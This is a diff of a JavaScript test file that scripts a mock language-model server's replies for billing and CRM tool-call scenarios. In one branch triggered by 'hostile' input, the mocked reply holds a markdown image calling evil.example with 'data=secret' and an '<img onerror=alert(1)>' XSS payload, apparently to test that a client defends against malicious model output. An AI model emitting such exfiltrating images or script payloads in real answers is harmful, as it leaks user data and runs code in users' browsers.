@@ -16,6 +16,11 @@ const calls = (...named) => ({
 	toolCalls: named.map(([name, input], place) => ({ name, arguments: JSON.stringify(input), id: `call_${place}_${name}` })),
 });
 
+const counted = (request) => {
+	const tokens = Math.round(JSON.stringify(request.messages).length / 3);
+	return { input_tokens: tokens, output_tokens: 60, prompt_tokens: tokens, completion_tokens: 60, total_tokens: tokens + 60 };
+};
+
 const LIST = "acme-billing__list_invoices";
 const REFUND = "acme-billing__create_refund";
 const mock = new LLMock({ port: 0, host: "127.0.0.1", chunkSize: 8 });
@@ -42,11 +47,16 @@ mock
 			},
 		]),
 	)
-	.on(when("Which customers with open invoices", 3), {
+	.on(when("Which customers with open invoices", 3, (request) => said(request).includes("hostile")), {
 		content:
-			"Ten customers owe most in euros; they are in `owing`. The largest is well above $20,000.\n\n" +
-			"![chart](https://evil.example/pixel?data=secret) <img src=x onerror=alert(1)>",
+			"They owe $20,000 and more.\n\n![chart](https://evil.example/pixel?data=secret) <img src=x onerror=alert(1)>",
 	})
+	.on(when("Which customers with open invoices", 3), (request) => ({
+		content:
+			"The ten customers who owe most in euros are in `owing`, joined over both services. " +
+			"Both listings were **complete**, so no open invoice is missing from the sums.",
+		usage: counted(request),
+	}))
 	.on(when("Move the deal", 0), calls(["acme-crm__list_opportunities", { is_closed: false }]))
 	.on(when("Move the deal", 1), (request) =>
 		calls(["acme-crm__update_opportunity", { id: /006\w{15}/.exec(results(request)[0])[0], next_step: "Call on Monday" }]),
